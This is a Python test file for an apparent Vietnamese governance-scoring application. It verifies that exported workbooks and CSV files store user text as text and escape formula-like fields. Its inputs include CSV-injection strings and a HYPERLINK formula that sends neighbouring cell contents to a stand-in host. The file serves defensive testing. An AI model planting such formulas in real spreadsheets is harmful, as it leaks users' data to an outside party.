"""Text people type reaches every spreadsheet and CSV file govscore writes as text, never as a formula.

Every text a user can write (unit and group names, framework titles, text values, reasons, report
contents, descriptions, letter fields, a past year's table, a user name) starts here with what a
spreadsheet would run: `=1+1`, `+A1`, `-2+3`, `@SUM(A1)`, a `=HYPERLINK(…)` that sends neighbouring
cells away, and `#N/A`, which openpyxl would store as an error value. Every workbook the application
sends is opened with openpyxl and holds no formula and no error cell; every CSV field that starts like
a formula carries the apostrophe that makes it text.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path
from typing import ClassVar

import openpyxl
import pytest
import time_machine
from django.contrib.auth.models import User
from django.test import TestCase
from django.urls import reverse

from govscore.cli.main import main
from govscore.examples import example_path
from govscore.imports.history_layout import HistoryRow
from govscore.imports.history_template import build_history_template
from govscore.scoring.model import Published
from govscore.web.accounts.actions import do_ensure_user
from govscore.web.accounts.models import Role
from govscore.web.frameworks.actions import do_store_framework
from govscore.web.imports.history.actions import do_import_history
from govscore.web.indicators.actions import do_add_evidence, do_set_values
from govscore.web.orgs.actions import do_ensure_group, do_ensure_unit
from govscore.web.periods.actions import do_close, do_ensure_period
from govscore.web.periods.models import EvaluationPeriod
from govscore.web.publications.actions import do_open_amendment, do_publish, do_save_draft
from govscore.web.publications.models import Publication
from govscore.web.reports.actions import do_submit_report
from govscore.web.scores.actions import do_set_manual_score

from .base import PASSWORD
from .samples import pdf_upload

FRAMEWORK_FILE = Path(__file__).parent.parent / "imports" / "files" / "kiem-thu-nhap.yaml"
LINK = '=HYPERLINK("http://ke-xau.example/?"&B5&C5,"Bấm vào đây")'
FORMULAS = ("=1+1", "+A1", "-2+3", "@SUM(A1)")
# What a spreadsheet program takes for the start of a formula in a CSV field (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ERROR_TEXT = "#N/A"
UNIT_NAMES = {"SYT": LINK, "STP": "+A1 Sở Tư pháp", "SNV": "-2+3 Sở Nội vụ", "STC": "@SUM(A1) Sở Tài chính"}
GROUP_NAME = "=1+1 Sở, ban, ngành"
# Text values of the units, in the order of UNIT_NAMES; the third is amended after the first edition.
REMARKS = (LINK, "=1+1", "@SUM(A1)", ERROR_TEXT)
AMENDED = "-2+3 sửa"
# (text in the test framework, what replaces it): titles, labels, names, units and notes of the framework.
FRAMEWORK_TEXTS = (
    ('title: "Bộ tiêu chí kiểm thử nhập số liệu"', 'title: "=1+1 Bộ tiêu chí"'),
    ('name: "Sở, ban, ngành"', 'name: "+A1 Sở, ban, ngành"'),
    ('label: "Tốt"', 'label: "-2+3 Tốt"'),
    ('title: "CBCC có hộp thư / tổng số CBCC"', 'title: "@SUM(A1) hộp thư", description: "=1+1 mô tả"'),
    ('title: "Trưởng ban"', 'title: "=1+1 Trưởng ban"'),
    ('title: "Phó ban"', 'title: "+A1 Phó ban"'),
    ('unit: "cuộc"', 'unit: "-2+3 cuộc"'),
    ('title: "quy định an toàn thông tin"', 'title: "@SUM(A1) an toàn thông tin"'),
    ('title: "Ghi chú"', 'title: "=1+1 Ghi chú"'),
    ('title: "Hộp thư", max: 10', 'title: "+A1 Hộp thư", note: "=1+1 ghi chú", max: 10'),
)


def formula_framework() -> str:
    text = FRAMEWORK_FILE.read_text(encoding="utf-8")
    for old, new in FRAMEWORK_TEXTS:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


def history_file(version_framework: object) -> bytes:
    """A past year's table whose names and sentences start like formulas, stored as text cells."""
    rows = [
        HistoryRow("SYT", LINK, "so-nganh", Published(position=1, total=Decimal(20), grade="A", rank=1, good=FORMULAS)),
        HistoryRow(
            "CU", "=1+1 Sở đã giải thể", "so-nganh", Published(position=2, total=Decimal(10), grade="B", rank=2)
        ),
    ]
    data = build_history_template(version_framework, (), rows)  # type: ignore[arg-type]
    # Whatever the writer did, the file a person uploads holds these as typed text.
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def cells(data: bytes) -> list[openpyxl.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def unsafe_fields(rows: list[list[str]]) -> list[str]:
    """Fields a spreadsheet program would run: starting like a formula and not a plain number."""
    return [
        field
        for row in rows
        for field in row
        if field.startswith(FORMULA_STARTS) and not field.lstrip("+-").replace(".", "", 1).isdigit()
    ]


class SpreadsheetTextTests(TestCase):
    period: ClassVar[EvaluationPeriod]
    historical: ClassVar[EvaluationPeriod]
    publication: ClassVar[Publication]
    admin: ClassVar[User]

    @classmethod
    def setUpTestData(cls) -> None:
        version = do_store_framework(formula_framework())
        cls.period = do_ensure_period(2013, version, title="=1+1 Đánh giá năm 2013")
        group = do_ensure_group("so-nganh", GROUP_NAME)
        units = {code: do_ensure_unit(code, name, group, short_name="@SUM(A1)") for code, name in UNIT_NAMES.items()}
        cls.admin = do_ensure_user("admin", PASSWORD, Role.ADMINISTRATOR)
        reporter = do_ensure_user("@SUM(A1)", PASSWORD, Role.REPORTER, units["SYT"], full_name="=1+1")
        for unit, remark in zip(units.values(), REMARKS, strict=True):
            values = {
                "remark": remark,
                "email": {"numerator": 1, "denominator": 2},
                "council": {"points": 1, "reason": "+A1 lý do"},
            }
            do_set_values(cls.period, unit, values, by=reporter if unit.code == "SYT" else None)
        do_add_evidence(cls.period, units["SYT"], "email", pdf_upload(), description="-2+3 danh sách", by=reporter)
        with time_machine.travel(datetime.datetime(2013, 2, 3, 9, 0, tzinfo=datetime.UTC), tick=False):
            do_submit_report(cls.period, units["SYT"], 1, content="=1+1\n@SUM(A1)", documents_sent=3, by=reporter)
        do_set_manual_score(cls.period, units["STP"], "2", Decimal(5), "+A1 lý do chấm tay", cls.admin)
        letter = {
            "place": "=1+1",
            "issued_on": datetime.date(2013, 12, 7),
            "letter_number": "+A1/STTT",
            "letter_date": datetime.date(2013, 12, 7),
            "issuer": "-2+3 Sở",
            "title": "@SUM(A1) Đánh giá",
            "signer_title": "=1+1",
            "signer_name": LINK,
        }
        do_save_draft(cls.period, letter, None)
        do_close(cls.period)
        do_publish(cls.period, cls.admin)
        do_open_amendment(cls.period, "=1+1 lý do đính chính", cls.admin)
        do_set_values(cls.period, units["SNV"], {"remark": AMENDED})
        # An amendment is a new letter, with a number of its own.
        do_save_draft(cls.period, {"letter_number": "+A2/STTT"}, None)
        cls.publication = do_publish(cls.period, cls.admin)
        imported = do_import_history(2011, version, history_file(version.parsed()), title="+A1 năm 2011").period
        assert imported is not None
        cls.historical = imported

    def setUp(self) -> None:
        self.client.force_login(self.admin)

    def download(self, url: str) -> bytes:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        return b"".join(response.streaming_content) if response.streaming else response.content

    def assert_text_only(self, data: bytes, expected: tuple[str, ...]) -> None:
        found = cells(data)
        formulas = [(cell.coordinate, cell.value) for cell in found if cell.data_type == "f"]
        errors = [(cell.coordinate, cell.value) for cell in found if cell.data_type == "e"]
        self.assertEqual(formulas, [])
        self.assertEqual(errors, [])
        # The texts are there, read back as they were typed.
        texts = {cell.value for cell in found if isinstance(cell.value, str)}
        self.assertEqual([text for text in expected if text not in texts], [])

    def test_the_data_template_holds_names_and_values_as_text(self) -> None:
        data = self.download(reverse("imports_template", args=[self.period.pk]))
        names = tuple(UNIT_NAMES.values())
        remarks = (LINK, "=1+1", ERROR_TEXT, AMENDED)
        self.assert_text_only(data, (*names, GROUP_NAME, *remarks, "=1+1 Trưởng ban", "-2+3 cuộc"))

    def test_the_published_workbooks_hold_names_and_titles_as_text(self) -> None:
        for publication in Publication.objects.filter(period=self.period):
            data = self.download(reverse("public_file", args=[publication.pk, "xlsx"]))
            self.assert_text_only(data, (*UNIT_NAMES.values(), "+A1 Hộp thư", "=1+1 ghi chú"))

    def test_the_history_template_and_export_hold_names_and_sentences_as_text(self) -> None:
        template = self.download(reverse("history_template", args=[self.period.framework_id]))
        self.assert_text_only(template, (*UNIT_NAMES.values(), "+A1 Sở, ban, ngành", "-2+3 Tốt"))
        exported = self.download(reverse("history_export", args=[self.historical.pk]))
        self.assert_text_only(exported, (LINK, "=1+1 Sở đã giải thể"))

    def test_the_audit_export_escapes_every_field_that_starts_like_a_formula(self) -> None:
        data = self.download(reverse("audit_export")).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(data)))
        self.assertEqual(unsafe_fields(rows), [])
        fields = {field for row in rows for field in row}
        self.assertLessEqual({"'@SUM(A1)", "'+A1 lý do chấm tay", "'=1+1 lý do đính chính", "'" + LINK}, fields)


@pytest.fixture
def formula_evaluation(tmp_path: Path) -> Path:
    """The bundled example with units named like formulas."""
    example = example_path("dongnai-2012")
    assert example is not None
    folder = example if example.is_dir() else example.parent
    for source in folder.iterdir():
        if source.is_file():
            (tmp_path / source.name).write_bytes(source.read_bytes())
    evaluation = tmp_path / "evaluation.yaml"
    text = evaluation.read_text(encoding="utf-8")
    for old, new in (("Sở Y tế", "=1+1 Sở Y tế"), ("Sở Tư pháp", "@SUM(A1) Sở Tư pháp")):
        assert old in text
        text = text.replace(old, new)
    evaluation.write_text(text, encoding="utf-8")
    return evaluation


def test_the_command_lines_csv_escapes_names_that_start_like_formulas(
    formula_evaluation: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["score", str(formula_evaluation), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert unsafe_fields(rows) == []
    names = {row[2] for row in rows[1:]}
    assert {"'=1+1 Sở Y tế", "'@SUM(A1) Sở Tư pháp"} <= names
